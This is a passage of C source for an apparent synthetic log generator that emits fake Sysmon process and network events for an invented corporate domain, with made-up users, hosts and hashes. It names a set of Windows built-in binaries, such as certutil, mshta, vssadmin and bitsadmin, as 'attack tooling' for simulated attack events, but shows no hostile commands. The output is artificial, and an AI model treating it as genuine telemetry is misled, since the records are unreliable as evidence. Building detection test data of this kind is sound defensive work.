      "-ServerName:App.AppXmtcan0h2tfbfy7k9kmpyrnwy8q8hfavm.mca"},
     SYS32},
    {"runtimebroker",
     SYS32 "RuntimeBroker.exe",
     "RuntimeBroker.exe",
     "Runtime Broker",
     RAW WINOS,
     MS,
     WINVER,
     "svchost",
     CTX_USER,
     "Medium",
     3,
     0,
     {"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"},
     SYS32},
    {"searchprotocol",
     SYS32 "SearchProtocolHost.exe",
     "SearchProtocolHost.exe",
     "Microsoft Windows Search Protocol Host",
     RAW WINOS,
     MS,
     WINVER,
     "searchindexer",
     CTX_SYSTEM,
     "System",
     4,
     0,
     {"\"C:\\WINDOWS\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{N}_ "
      "Global\\UsGthrCtrlFltPipeMssGthrPipe{N} 1 -2147483646 \"Software\\Microsoft\\Windows "
      "Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" "
      "\"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\" "},
     SYS32},
    {"searchfilter",
     SYS32 "SearchFilterHost.exe",
     "SearchFilterHost.exe",
     "Microsoft Windows Search Filter Host",
     RAW WINOS,
     MS,
     WINVER,
     "searchindexer",
     CTX_SYSTEM,
     "System",
     3,
     0,
     {"\"C:\\WINDOWS\\system32\\SearchFilterHost.exe\" 0 {N} {N} {N} {N} {x} "},
     SYS32},
    {"dllhost",
     SYS32 "dllhost.exe",
     "dllhost.exe",
     "COM Surrogate",
     RAW WINOS,
     MS,
     WINVER,
     "svchost",
     CTX_USER,
     "Medium",
     3,
     0,
     {"C:\\WINDOWS\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
      "C:\\WINDOWS\\system32\\DllHost.exe /Processid:{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}"},
     SYS32},
    {"wmiprvse",
     SYS32 "wbem\\WmiPrvSE.exe",
     "Wmiprvse.exe",
     "WMI Provider Host",
     RAW WINOS,
     MS,
     WINVER,
     "svchost",
     CTX_NETWORK,
     "System",
     2,
     0,
     {"C:\\WINDOWS\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
      "C:\\WINDOWS\\system32\\wbem\\wmiprvse.exe -Embedding"},
     SYS32},
    {"msiexec",
     SYS32 "msiexec.exe",
     "msiexec.exe",
     RAW "Windows\\u00ae installer",
     RAW WINOS,
     MS,
     "5.0.22621.4391 (WinBuild.160101.0800)",
     "services",
     CTX_SYSTEM,
     "System",
     1,
     0,
     {"C:\\WINDOWS\\system32\\msiexec.exe /V"},
     SYS32},
    {"tiworker",
     "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_"
     "10.0.22621.4455_none_7c4f5ab7e0f4a5c8\\TiWorker.exe",
     "TiWorker.exe",
     "Windows Modules Installer Worker",
     RAW WINOS,
     MS,
     WINVER,
     "svchost",
     CTX_SYSTEM,
     "System",
     1,
     0,
     {"C:\\WINDOWS\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.22621."
      "4455_none_7c4f5ab7e0f4a5c8\\TiWorker.exe -Embedding"},
     SYS32},
    {"googleupdate",
     "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
     "GoogleUpdate.exe",
     "Google Installer",
     "Google Update",
     "Google LLC",
     "1.3.36.372",
     "svchost",
     CTX_SYSTEM,
     "System",
     1,
     F_NET,
     {"\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ua /installsource "
      "scheduler",
      "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /c"},
     SYS32},
    {"edgeupdate",
     "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe",
     "msedgeupdate.dll",
     "Microsoft Edge Update",
     "Microsoft Edge Update",
     MS,
     "1.3.195.35",
     "svchost",
     CTX_SYSTEM,
     "System",
     1,
     F_NET,
     {"\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /ua "
      "/installsource scheduler",
      "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /c"},
     SYS32},
    {"notepad",
     SYS32 "notepad.exe",
     "NOTEPAD.EXE",
     "Notepad",
     RAW WINOS,
     MS,
     WINVER,
     "explorer",
     CTX_USER,
     "Medium",
     1,
     0,
     {"\"C:\\WINDOWS\\system32\\NOTEPAD.EXE\" C:\\Users\\{U}\\Documents\\{D}.txt",
      "\"C:\\WINDOWS\\system32\\notepad.exe\" "},
     "C:\\Users\\{U}\\Documents\\"},
    {"compattel",
     SYS32 "CompatTelRunner.exe",
     "CompatTelRunner.exe",
     "Microsoft Compatibility Telemetry",
     RAW WINOS,
     MS,
     WINVER,
     "svchost",
     CTX_SYSTEM,
     "System",
     1,
     F_NET,
     {"C:\\WINDOWS\\system32\\compattelrunner.exe -m:appraiser.dll "
      "-f:DoScheduledTelemetryRun",
      "C:\\WINDOWS\\system32\\compattelrunner.exe -m:aeinv.dll -f:UpdateSoftwareInventoryW "
      "invsvc"},
     SYS32},
    {"wermgr",
     SYS32 "wermgr.exe",
     "wermgr.exe",
     "Windows Problem Reporting",
     RAW WINOS,
     MS,
     WINVER,
     "svchost",
     CTX_SYSTEM,
     "System",
     1,
     F_NET,
     {"C:\\WINDOWS\\system32\\wermgr.exe -upload",
      "C:\\WINDOWS\\system32\\wermgr.exe -queuereporting"},
     SYS32},
    {"smartscreen",
     SYS32 "smartscreen.exe",
     "smartscreen.exe",
     "Windows Defender SmartScreen",
     RAW WINOS,
     MS,
     WINVER,
     "svchost",
     CTX_USER,
     "Medium",
     2,
     F_NET,
     {"C:\\Windows\\System32\\smartscreen.exe -Embedding"},
     SYS32},
    {"ipconfig",
     SYS32 "ipconfig.exe",
     "ipconfig.exe",
     "IP Configuration Utility",
     RAW WINOS,
     MS,
     WINVER,
     "cmd",
     CTX_USER,
     "Medium",
     1,
     0,
     {"ipconfig  /all", "ipconfig /flushdns"},
     "C:\\Users\\{U}\\"},
    /* Attack tooling: weight 0, used only by the attack-like events. */
    {"rundll32",
     SYS32 "rundll32.exe",
     "RUNDLL32.EXE",
     "Windows host process (Rundll32)",
     RAW WINOS,
     MS,
     WINVER,
     "explorer",
     CTX_USER,
     "Medium",
     0,
     0,
     {"rundll32.exe"},
     "C:\\Users\\{U}\\"},
    {"certutil",
     SYS32 "certutil.exe",
     "CertUtil.exe",
     "CertUtil.exe",
     RAW WINOS,
     MS,
     WINVER,
     "cmd",
     CTX_USER,
     "Medium",
     0,
     F_NET,
     {"certutil.exe"},
     "C:\\Users\\{U}\\"},
    {"vssadmin",
     SYS32 "vssadmin.exe",
     "VSSADMIN.EXE",
     RAW "Command Line Interface for Microsoft\\u00ae Volume Shadow Copy Service ",
     RAW WINOS,
     MS,
     WINVER,
     "cmd",
     CTX_ADMIN,
     "High",
     0,
     0,
     {"vssadmin.exe"},
     SYS32},
    {"mshta",
     SYS32 "mshta.exe",
     "MSHTA.EXE",
     "Microsoft (R) HTML Application host",
     "Internet Explorer",
     MS,
     "11.00.22621.1 (WinBuild.160101.0800)",
     "explorer",
     CTX_USER,
     "Medium",
     0,
     F_NET,
     {"mshta.exe"},
     "C:\\Users\\{U}\\"},
    {"schtasks",
     SYS32 "schtasks.exe",
     "schtasks.exe",
     "Task Scheduler Configuration Tool",
     RAW WINOS,
     MS,
     WINVER,
     "cmd",
     CTX_USER,
     "Medium",
     0,
     0,
     {"schtasks.exe"},
     "C:\\Users\\{U}\\"},
    {"reg",
     SYS32 "reg.exe",
     "reg.exe",
     "Registry Console Tool",
     RAW WINOS,
     MS,
     WINVER,
     "cmd",
     CTX_ADMIN,
     "High",
     0,
     0,
     {"reg.exe"},
     SYS32},
    {"bitsadmin",
     SYS32 "bitsadmin.exe",
     "bitsadmin.exe",
     "BITS administration utility",
     RAW WINOS,
     MS,
     WINVER,
     "cmd",
     CTX_USER,
     "Medium",
     0,
     0,
     {"bitsadmin.exe"},
     "C:\\Users\\{U}\\"},
    {"net",
     SYS32 "net.exe",
     "net.exe",
     "Net Command",
     RAW WINOS,
     MS,
     WINVER,
     "cmd",
     CTX_ADMIN,
     "High",
     0,
     0,
     {"net.exe"},
     SYS32},
    {"regsvr32",
     SYS32 "regsvr32.exe",
     "REGSVR32.EXE",
     "Microsoft(C) Register Server",
     RAW WINOS,
     MS,
     WINVER,
     "cmd",
     CTX_USER,
     "Medium",
     0,
     F_NET,
     {"regsvr32.exe"},
     "C:\\Users\\{U}\\"},
};

enum { N_DEFS = (int)COUNT(CATALOG) };

static int def_index(const char *name)
{
    for (int i = 0; i < N_DEFS; i++)
        if (strcmp(CATALOG[i].name, name) == 0)
            return i;
    return -1;
}

/* Processes every host runs from boot; they fill the first PINNED slots and never exit. */
static const char *const BASELINE[PINNED] = {"services", "lsass",      "svchost",      "msmpeng",
                                             "explorer", "svchost_ns", "searchindexer"};

typedef struct {
    const char *path, *orig, *desc, *version;
} dll_t;

static const dll_t DLLS[] = {
    {SYS32 "ntdll.dll", "ntdll.dll", "NT Layer DLL", WINVER},
    {SYS32 "kernel32.dll", "kernel32", "Windows NT BASE API Client DLL", WINVER},
    {SYS32 "KernelBase.dll", "Kernelbase.dll", "Windows NT BASE API Client DLL", WINVER},
    {SYS32 "advapi32.dll", "advapi32.dll", "Advanced Windows 32 Base API", WINVER},
    {SYS32 "combase.dll", "COMBASE.DLL", "Microsoft COM for Windows", WINVER},
    {SYS32 "ole32.dll", "OLE32.DLL", "Microsoft OLE for Windows", WINVER},
    {SYS32 "ws2_32.dll", "ws2_32.dll", "Windows Socket 2.0 32-Bit DLL", WINVER},
    {SYS32 "crypt32.dll", "CRYPT32.DLL", "Crypto API32", WINVER},
    {SYS32 "bcrypt.dll", "BCrypt.dll", "Windows Cryptographic Primitives Library", WINVER},
    {SYS32 "winhttp.dll", "winhttp.dll", "Windows HTTP Services", WINVER},
    {SYS32 "wininet.dll", "wininet.dll", "Internet Extensions for Win32", WINVER},
    {SYS32 "user32.dll", "user32", "Multi-User Windows USER API Client DLL", WINVER},
    {SYS32 "gdi32.dll", "gdi32", "GDI Client DLL", WINVER},
    {SYS32 "shell32.dll", "SHELL32.DLL", "Windows Shell Common Dll", WINVER},
    {SYS32 "sechost.dll", "sechost.dll", "Host for SCM/SDDL/LSA Lookup APIs", WINVER},
    {SYS32 "rpcrt4.dll", "rpcrt4.dll", "Remote Procedure Call Runtime", WINVER},
    {SYS32 "dnsapi.dll", "dnsapi", "DNS Client API DLL", WINVER},
    {SYS32 "mswsock.dll", "mswsock.dll", "Microsoft Windows Sockets 2.0 Service Provider", WINVER},
    {SYS32 "uxtheme.dll", "UxTheme.dll", "Microsoft UxTheme Library", WINVER},
    {SYS32 "propsys.dll", "PROPSYS.DLL", "Microsoft Property System", "7.0.22621.4391"},
    {SYS32 "windows.storage.dll", "Windows.Storage.dll", "Microsoft WinRT Storage API", WINVER},
    {SYS32 "profapi.dll", "profapi.dll", "User Profile Basic API", WINVER},
    {SYS32 "cryptbase.dll", "cryptbase", "Base cryptographic API DLL", WINVER},
    {SYS32 "wintrust.dll", "WINTRUST.DLL", "Microsoft Trust Verification APIs", WINVER},
};

typedef struct {
    const char *name;
    uint8_t net_a, net_b; /* first two octets of its addresses */
} domain_t;

static const domain_t DOMAINS[] = {
    {"www.google.com", 142, 250},
    {"clients2.google.com", 142, 251},
    {"update.googleapis.com", 142, 250},
    {"login.microsoftonline.com", 20, 190},
    {"outlook.office365.com", 52, 97},
    {"contoso.sharepoint.com", 13, 107},
    {"contoso-my.sharepoint.com", 13, 107},
    {"teams.microsoft.com", 52, 113},
    {"graph.microsoft.com", 20, 190},
    {"settings-win.data.microsoft.com", 20, 42},
    {"v10.events.data.microsoft.com", 20, 42},
    {"wdcp.microsoft.com", 40, 126},
    {"go.microsoft.com", 23, 54},
    {"ctldl.windowsupdate.com", 23, 216},
    {"www.bing.com", 204, 79},
    {"github.com", 140, 82},
    {"api.github.com", 140, 82},
    {"marketplace.visualstudio.com", 13, 107},
    {"edge.microsoft.com", 13, 107},
    {"ecs.office.com", 52, 113},
    {"oneclient.sfx.ms", 23, 40},
    {"nav.smartscreen.microsoft.com", 20, 189},
    {"dc01.corp.contoso.com", 10, 0},
    {"fs01.corp.contoso.com", 10, 0},
};

static const char *const DOCS[] = {
    "Q3 Budget Review",    "Project Falcon Plan",   "Board Minutes 2025-02",
    "Sales Pipeline",      "Onboarding Checklist",  "Vendor Contract Draft",
    "Quarterly Forecast",  "Team Offsite Agenda",   "Architecture Overview",
    "Incident Postmortem", "Travel Expenses March", "Customer Survey Results",
    "Release Notes 4.2",   "Hiring Plan",           "Marketing Calendar",
    "Invoice 2025-0311",   "Security Awareness",    "Roadmap H2",
    "Lab Measurements",    "Payroll Summary"};

static const char *const REPOS[] = {"billing-service", "web-portal", "infra-terraform",
                                    "data-pipeline",   "mobile-app", "docs"};

static const char *const UA_BROWSERS[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Microsoft Office Word 2014 (16.0.18129) Windows NT 10.0",
    "Microsoft SkyDriveSync 24.226.1110.0004 ship; Windows NT 10.0 (22631)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148"};

/* ---------------------------------------------------------------- generator state */

typedef struct {
    rng_t r;
    uint64_t now_us;
    uint32_t dom_sid[3];
    char org_id[40];
    char tenant_sp_app[40];
    user_t users[N_USERS];
    host_t hosts[N_HOSTS];
    int def_parent[N_DEFS];
    unsigned def_weight[N_DEFS];
    int def_lsass, def_conhost;
    uint32_t malicious_ppm, m365_ppm;
    uint64_t n_sysmon, n_m365, n_bad;
    /* scratch */
    char t_sys[40], t_utc[40];
} gen_t;

static const char *user_name(const gen_t *g, int user)
{
    switch (user) {
    case CTX_SYSTEM: return "NT AUTHORITY\\SYSTEM";
    case CTX_LOCAL: return "NT AUTHORITY\\LOCAL SERVICE";
    case CTX_NETWORK: return "NT AUTHORITY\\NETWORK SERVICE";
    default: break;
    }
    static char tmp[64];
    snprintf(tmp, sizeof(tmp), "CONTOSO\\%s", g->users[user].sam);
    return tmp;
}

static void user_sid(const gen_t *g, int user, char *out, size_t cap)
{
    snprintf(out, cap, "S-1-5-21-%u-%u-%u-%u", g->dom_sid[0], g->dom_sid[1], g->dom_sid[2],
             g->users[user].rid);
}

static void fmt_ipv4(char *out, uint32_t ip)
{
    snprintf(out, 16, "%u.%u.%u.%u", ip >> 24, ip >> 16 & 255, ip >> 8 & 255, ip & 255);
}

/* A public address outside the reserved blocks, for home and mobile users. */
static uint32_t public_ip(rng_t *r)
{
    static const uint8_t first[] = {24,  31,  37,  46,  62,  73,  81,  86,  92,  98,
                                    104, 109, 126, 133, 151, 176, 185, 188, 202, 217};
    uint32_t a = first[below(r, COUNT(first))];
    uint32_t b = range(r, 1, 254);
    uint32_t c = range(r, 0, 255);
    uint32_t d = range(r, 1, 254);
    return a << 24 | b << 16 | c << 8 | d;
}

static void init_people(gen_t *g)
{
    rng_t *r = &g->r;
    for (int i = 0; i < 3; i++)
        g->dom_sid[i] = range(r, 1000000000u, 4000000000u);
    fmt_guid(g->org_id, r, 0);
    fmt_guid(g->tenant_sp_app, r, 0);
    for (int i = 0; i < N_USERS; i++) {
        user_t *u = &g->users[i];
        const char *f = FIRST[(size_t)i % COUNT(FIRST)];
        /* (first, last) pairs are distinct for i < 400: the last name shifts by 7 per round. */
        const char *l = LAST[((size_t)i / COUNT(FIRST) * 7 + (size_t)i) % COUNT(LAST)];
        snprintf(u->first, sizeof(u->first), "%s", f);
        snprintf(u->last, sizeof(u->last), "%s", l);
        snprintf(u->sam, sizeof(u->sam), "%c%s", f[0], l);
        for (int j = 0; j < i; j++) /* keep account names unique: jsmith, jsmith2, ... */
            if (strcmp(g->users[j].sam, u->sam) == 0) {
                snprintf(u->sam, sizeof(u->sam), "%c%s%d", f[0], l, i / (int)COUNT(FIRST) + 1);
                break;
            }
        snprintf(u->upn, sizeof(u->upn), "%s.%s@contoso.com", f, l);
        u->rid = 1104 + (uint32_t)i * 3;
        u->puid = UINT64_C(0x1003200000000000) | (rnd(r) & UINT64_C(0xFFFFFFFFFFF));
        fmt_guid(u->oid, r, 0);
        fmt_guid(u->mbx, r, 0);
        u->home_ip = public_ip(r);
    }
}

static void new_proc_guid(host_t *h, uint32_t start_secs, char *out)
{
    uint32_t c = ++h->proc_counter & 0xFFFF;
    snprintf(out, 40, "%08X-%04X-%04X-%02X%02X-%s", h->guid_prefix, start_secs & 0xFFFF,
             start_secs >> 16, c & 0xFF, c >> 8, h->guid_tail);
}

/* LogonGuid: host prefix, logon time, then the LogonId's bytes in little-endian order. */
static void logon_guid(const host_t *h, int user, char *out)
{
    uint64_t id = user == CTX_SYSTEM    ? 0x3e7
                  : user == CTX_LOCAL   ? 0x3e5
                  : user == CTX_NETWORK ? 0x3e4
                                        : h->logon_id;
    uint32_t t = user >= 0 ? h->logon_secs : h->boot_secs;
    snprintf(out, 40, "%08X-%04X-%04X-%02X%02X-%02X%02X%02X%02X%02X%02X", h->guid_prefix,
             t & 0xFFFF, t >> 16, (unsigned)(id & 255), (unsigned)(id >> 8 & 255),
             (unsigned)(id >> 16 & 255), (unsigned)(id >> 24 & 255), (unsigned)(id >> 32 & 255),
             (unsigned)(id >> 40 & 255), 0u, 0u);
}

static void logon_id_str(const host_t *h, int user, char *out)
{
    uint64_t id = user == CTX_SYSTEM    ? 0x3e7
                  : user == CTX_LOCAL   ? 0x3e5
                  : user == CTX_NETWORK ? 0x3e4
                                        : h->logon_id;
    snprintf(out, 24, "0x%" PRIx64, id);
}

static uint32_t new_pid(rng_t *r)
{
    return range(r, 1, 16383) * 4;
}

/* Expands a template: {U} user name, {D} document, {P} repository, {N} number, {x} hex. */
static void expand(gen_t *g, char *out, size_t cap, const char *tpl, int user)
{
    str_t s;
    s_init(&s, out, cap);
    const char *sam = user >= 0 ? g->users[user].sam : "Administrator";
    for (const char *p = tpl; *p; p++) {
        if (p[0] == '{' && p[1] && p[2] == '}') {
            switch (p[1]) {
            case 'U': s_puts(&s, sam); break;
            case 'D': s_puts(&s, PICK(&g->r, DOCS)); break;
            case 'P': s_puts(&s, PICK(&g->r, REPOS)); break;
            case 'N': s_u64(&s, range(&g->r, 100, 9999)); break;
            case 'x': s_hex(&s, rnd(&g->r), 8, 0); break;
            default: s_putc(&s, p[0]); continue;
            }
            p += 2;
            continue;
        }
        s_putc(&s, *p);
    }
}

static int resolve_user(const host_t *h, int ctx)
{
    if (ctx == CTX_USER)
        return h->user;
    if (ctx == CTX_ADMIN)
        return h->user; /* elevated session of the same user */
    return ctx;
}

static proc_t *spawn(gen_t *g, host_t *h, int def, int slot, uint32_t start_secs)
{
    proc_t *p = &h->procs[slot];
    const pdef_t *d = &CATALOG[def];
    p->def = def;
    p->pid = new_pid(&g->r);
    p->user = resolve_user(h, d->ctx);
    new_proc_guid(h, start_secs, p->guid);
    expand(g, p->cmd, sizeof(p->cmd),
           d->cmd[below(&g->r, d->cmd[2]   ? 3
                               : d->cmd[1] ? 2
                                           : 1)],
           p->user);
    return p;
}

static host_t *get_host(gen_t *g, int idx)
{
    host_t *h = &g->hosts[idx];
    if (h->ready)
        return h;
    rng_t *r = &g->r;
    h->ready = 1;
    if (idx < N_SERVERS)
        snprintf(h->fqdn, sizeof(h->fqdn), "SRV-APP%02d.corp.contoso.com", idx + 1);
    else
        snprintf(h->fqdn, sizeof(h->fqdn), "WKS-%04d.corp.contoso.com", 1000 + idx * 7);
    h->guid_prefix = (uint32_t)rnd(r);
    static const char *const tails[] = {"000000000800", "000000001400", "000000004002",
                                        "000000000D00", "000000000600", "000000000300"};
    snprintf(h->guid_tail, sizeof(h->guid_tail), "%s", PICK(r, tails));
    h->sysmon_pid = new_pid(r);
    h->sysmon_tid = new_pid(r);
    h->record_id = range(r, 1000, 900000);
    h->proc_counter = range(r, 0x100, 0x3000);
    h->boot_secs = (uint32_t)(g->now_us / 1000000) - range(r, 3600, 30 * 86400);
    h->user = (int)below(r, N_USERS);
    h->logon_id = range(r, 0x20000, 0x9FFFFF);
    h->logon_secs = h->boot_secs + range(r, 30, 600);
    uint32_t site = range(r, 1, 40);
    uint32_t subnet = range(r, 0, 255);
    h->ip = (uint32_t)10 << 24 | site << 16 | subnet << 8 | range(r, 10, 250);
    for (int i = 0; i < RING; i++)
        h->procs[i].def = -1;
    for (int i = 0; i < PINNED; i++)
        spawn(g, h, def_index(BASELINE[i]), i, h->boot_secs + (uint32_t)i * 3);
    h->next_slot = PINNED;
    return h;
}

/* Picks a live process, preferring one with any of the flags. */
static proc_t *pick_proc(gen_t *g, host_t *h, unsigned want)
{
    proc_t *first = NULL;
    for (int tries = 0; tries < 8; tries++) {
        proc_t *p = &h->procs[below(&g->r, RING)];
        if (p->def < 0)
            continue;
        if (!first)
            first = p;
        if (!want || (CATALOG[p->def].flags & want))
            return p;
    }
    return first ? first : &h->procs[2]; /* the pinned svchost */
}

static proc_t *find_proc(host_t *h, int def)
{
    for (int i = 0; i < RING; i++)
        if (h->procs[i].def == def)
            return &h->procs[i];
    return NULL;
}

static int free_slot(host_t *h)
{
    for (int i = PINNED; i < RING; i++)
        if (h->procs[i].def < 0)
            return i;
    int s = h->next_slot;
    h->next_slot = h->next_slot + 1 >= RING ? PINNED : h->next_slot + 1;
    return s;
}

/* Deterministic hex digest for a file: same image and version, same hashes everywhere. */
static void fake_hashes(char *out, size_t cap, const char *path, const char *version)
{
    rng_t hr = {fnv1a(path) ^ (fnv1a(version) << 1)};
    str_t s;
    s_init(&s, out, cap);
    static const struct {
        const char *name;
        int nibbles;
    } algs[] = {{"SHA1=", 40}, {",MD5=", 32}, {",SHA256=", 64}, {",IMPHASH=", 32}};
    for (size_t a = 0; a < COUNT(algs); a++) {
        s_puts(&s, algs[a].name);
        for (int i = 0; i < algs[a].nibbles; i += 16)
            s_hex(&s, rnd(&hr), algs[a].nibbles - i < 16 ? algs[a].nibbles - i : 16, 1);
    }
}

/* Writes the string; a leading RAW marker means "already JSON-escaped". */
static void j_text(buf_t *b, const char *k, const char *v)
{
    if (v[0] == RAW[0]) {
        j_key(b, k);
        b_putc(b, '"');
        b_puts(b, v + 1);
        b_putc(b, '"');
        b->comma = 1;
    } else {
        j_str(b, k, v);
    }
}

/* ---------------------------------------------------------------- Sysmon */

/* "Event" wrapper through the System section; leaves EventData open. */
static void sysmon_head(gen_t *g, buf_t *b, host_t *h, unsigned eid, unsigned version)
{
    fmt_time(g->t_sys, g->now_us, TS_SYSTEM);
    fmt_time(g->t_utc, g->now_us - range(&g->r, 200, 40000), TS_UTC);
    b->comma = 0;
    b_puts(b, "{\"Event\":{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/"
              "events/event\"},\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-"
              "Windows-Sysmon\",\"Guid\":\"5770385F-C22A-43E0-BF4C-06F5698FFBD9\"}}");
    b->comma = 1;
    j_u64(b, "EventID", eid);
    j_u64(b, "Version", version);
    j_u64(b, "Level", 4);
    j_u64(b, "Task", eid);
    j_u64(b, "Opcode", 0);
    j_str(b, "Keywords", "0x8000000000000000");
    j_open(b, "TimeCreated");
    j_open(b, "#attributes");
    j_str(b, "SystemTime", g->t_sys);
    j_close(b);
    j_close(b);
    j_u64(b, "EventRecordID", ++h->record_id);
    j_raw(b, "Correlation", "null");
    j_open(b, "Execution");
    j_open(b, "#attributes");
    j_u64(b, "ProcessID", h->sysmon_pid);
    j_u64(b, "ThreadID", h->sysmon_tid + 4 * below(&g->r, 3));
    j_close(b);
    j_close(b);
    j_str(b, "Channel", "Microsoft-Windows-Sysmon/Operational");
    j_str(b, "Computer", h->fqdn);
    j_open(b, "Security");
    j_open(b, "#attributes");
    j_str(b, "UserID", "S-1-5-18");
    j_close(b);
    j_close(b);
    j_close(b);
    j_open(b, "EventData");
    j_str(b, "RuleName", "-");
}

static void sysmon_tail(buf_t *b)
{
    b_puts(b, "}}}\n");
}

static void proc_fields(buf_t *b, const proc_t *p)
{
    j_str(b, "ProcessGuid", p->guid);
    j_u64(b, "ProcessId", p->pid);
}

static void image_of(gen_t *g, const proc_t *p, char *out, size_t cap)
{
    expand(g, out, cap, CATALOG[p->def].image, p->user);
}

static void emit_proc_create(gen_t *g, buf_t *b, host_t *h, int def, const char *cmd_override,
                             const proc_t *parent_override)
{
    rng_t *r = &g->r;
    const pdef_t *d = &CATALOG[def];
    const proc_t *parent = parent_override;
    if (!parent) {
        int pdef = g->def_parent[def];
        parent = pdef >= 0 ? find_proc(h, pdef) : NULL;
        if (!parent && pdef >= 0) {
            int slot = free_slot(h);
            parent = spawn(g, h, pdef, slot, (uint32_t)(g->now_us / 1000000) - range(r, 5, 7200));
        }
        if (!parent)
            parent = &h->procs[4]; /* explorer */
    }
    proc_t child;
    child.def = def;
    child.pid = new_pid(r);
    child.user = resolve_user(h, d->ctx);
    new_proc_guid(h, (uint32_t)(g->now_us / 1000000), child.guid);
    if (cmd_override)
        snprintf(child.cmd, sizeof(child.cmd), "%s", cmd_override);
    else
        expand(g, child.cmd, sizeof(child.cmd),
               d->cmd[below(r, d->cmd[2]   ? 3
                               : d->cmd[1] ? 2
                                           : 1)],
               child.user);

    char img[320], pimg[320], cwd[320], hashes[256], lg[40], lid[24];
    image_of(g, &child, img, sizeof(img));
    image_of(g, parent, pimg, sizeof(pimg));
    expand(g, cwd, sizeof(cwd), d->cwd, child.user);
    fake_hashes(hashes, sizeof(hashes), img, d->version);
    logon_guid(h, child.user, lg);
    logon_id_str(h, child.user, lid);

    sysmon_head(g, b, h, 1, 5);
    j_str(b, "UtcTime", g->t_utc);
    proc_fields(b, &child);
    j_str(b, "Image", img);
    j_text(b, "FileVersion", d->version);
    j_text(b, "Description", d->desc);
    j_text(b, "Product", d->product);
    j_text(b, "Company", d->company);
    j_str(b, "OriginalFileName", d->orig);
    j_str(b, "CommandLine", child.cmd);
    j_str(b, "CurrentDirectory", cwd);
    j_str(b, "User", user_name(g, child.user));
    j_str(b, "LogonGuid", lg);
    j_str(b, "LogonId", lid);
    j_u64(b, "TerminalSessionId", child.user >= 0 ? 1 : 0);
    j_str(b, "IntegrityLevel", d->ctx == CTX_ADMIN ? "High" : d->integrity);
    j_str(b, "Hashes", hashes);
    j_str(b, "ParentProcessGuid", parent->guid);
    j_u64(b, "ParentProcessId", parent->pid);
    j_str(b, "ParentImage", pimg);
    j_str(b, "ParentCommandLine", parent->cmd);
    j_str(b, "ParentUser", user_name(g, parent->user));
    sysmon_tail(b);

    int slot = free_slot(h);
    h->procs[slot] = child;
}

static void emit_proc_terminate(gen_t *g, buf_t *b, host_t *h)
{
    int slot = (int)range(&g->r, PINNED, RING - 1);
    proc_t *p = &h->procs[slot];
    if (p->def < 0) /* an empty slot: a fresh short-lived process ends */
        p = spawn(g, h, g->def_conhost, slot, (uint32_t)(g->now_us / 1000000) - 2);
    char img[320];
    image_of(g, p, img, sizeof(img));
    sysmon_head(g, b, h, 5, 3);
    j_str(b, "UtcTime", g->t_utc);
    proc_fields(b, p);
    j_str(b, "Image", img);
    j_str(b, "User", user_name(g, p->user));
    sysmon_tail(b);
    p->def = -1;
}

static uint32_t domain_ip(gen_t *g, const domain_t *d)
{
    uint32_t h = (uint32_t)fnv1a(d->name);
    uint32_t third = d->net_a == 10 ? 0 : (h >> 8 & 255);
    uint32_t fourth = ((h & 255) + below(&g->r, 4)) % 254 + 1;
    return (uint32_t)d->net_a << 24 | (uint32_t)d->net_b << 16 | third << 8 | fourth;
}

static const domain_t *domain_for(gen_t *g, const proc_t *p)
{
    unsigned f = CATALOG[p->def].flags;
    rng_t *r = &g->r;
    if (f & F_AV)
        return &DOMAINS[11];
    if (f & F_SYNC)
        return &DOMAINS[below(r, 2) ? 6 : 20];
    if (f & F_OFFICE)
        return &DOMAINS[below(r, 2) ? 4 : 19];
    if (f & F_SVC)
        return &DOMAINS[below(r, 3) == 0 ? 22 : range(r, 9, 13)];
    return &DOMAINS[below(r, COUNT(DOMAINS) - 2)];
}

static void emit_network(gen_t *g, buf_t *b, host_t *h)
{
    rng_t *r = &g->r;
    proc_t *p = pick_proc(g, h, F_NET);
    const domain_t *dom = domain_for(g, p);
    char img[320], src[16], dst[16];
    image_of(g, p, img, sizeof(img));
    fmt_ipv4(src, h->ip);
    int internal = dom->net_a == 10;
    uint32_t dip = internal ? (uint32_t)10 << 24 | (uint32_t)range(r, 10, 12) : domain_ip(g, dom);
    fmt_ipv4(dst, dip);
    static const unsigned dc_ports[] = {88, 135, 389, 445, 636};
    unsigned dport = internal ? dc_ports[below(r, COUNT(dc_ports))] : below(r, 10) ? 443 : 80;
    const char *pname = dport == 443   ? "https"
                        : dport == 80  ? "http"
                        : dport == 88  ? "kerberos"
                        : dport == 135 ? "epmap"
                        : dport == 389 ? "ldap"
